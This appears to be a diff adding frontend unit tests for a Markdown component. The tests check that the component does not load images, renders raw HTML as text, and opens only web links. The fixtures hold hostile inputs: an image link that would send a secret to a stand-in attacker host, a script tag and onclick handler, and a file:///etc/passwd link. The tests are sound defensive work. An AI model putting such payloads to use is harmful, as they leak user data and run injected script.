@@ -1,0 +1,30 @@
+import { screen } from "@testing-library/react";
+import { expect, it, vi } from "vitest";
+import { quickBackend, renderPage } from "../testing/render";
+import { Markdown } from "./markdown";
+
+it("never loads a picture: its address could carry something away", () => {
+  const { container } = renderPage(<Markdown text="![the notes](https://evil.example/?q=secret)" />);
+  expect(container.querySelector("img")).toBeNull();
+  expect(screen.getByText("the notes")).toBeTruthy();
+});
+
+it("shows raw HTML as text", () => {
+  const { container } = renderPage(<Markdown text={'<script>alert(1)</script>\n\n<b onclick="x">bold</b>'} />);
+  expect(container.querySelector("script")).toBeNull();
+  expect(container.querySelector("b")).toBeNull();
+});
+
+it("opens web links outside, and no others", async () => {
+  const openURL = vi.fn(() => Promise.resolve());
+  const { user } = renderPage(<Markdown text="[web](https://docs.example.com) [file](file:///etc/passwd)" />, { ...quickBackend(), openURL });
+  await user.click(screen.getByText("web"));
+  await user.click(screen.getByText("file"));
+  expect(openURL.mock.calls).toEqual([["https://docs.example.com"]]);
+});
+
+it("makes code that can be copied, and tables", () => {
+  renderPage(<Markdown text={"```sh\nls -l\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"} />);
+  expect(screen.getByLabelText("Code").textContent).toBe("ls -l\n");
+  expect(screen.getByRole("table").textContent).toBe("ab12");
+});
